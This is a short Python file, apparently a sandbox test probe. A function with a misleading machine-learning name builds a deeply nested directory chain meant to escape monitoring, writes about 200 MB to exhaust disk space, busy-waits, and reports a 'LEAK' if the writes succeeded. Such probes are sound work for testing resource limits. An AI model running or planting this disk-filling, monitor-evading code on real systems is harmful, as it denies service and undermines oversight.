"""Fills the disk in a folder so deep that no path leads there, where a watch may not look."""

import os


def clip_logits(backbone, video):
    written = 0
    try:
        for _ in range(60):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        for number in range(8):
            with open(f"flood{number}", "wb") as file:
                for _ in range(25):
                    written += file.write(bytes(1 << 20))
    except OSError:
        pass
    end = os.times().elapsed + 1.0
    while os.times().elapsed < end:
        pass
    if written > 100_000_000:
        raise RuntimeError(f"LEAK {written} bytes of disk were filled")
    return None
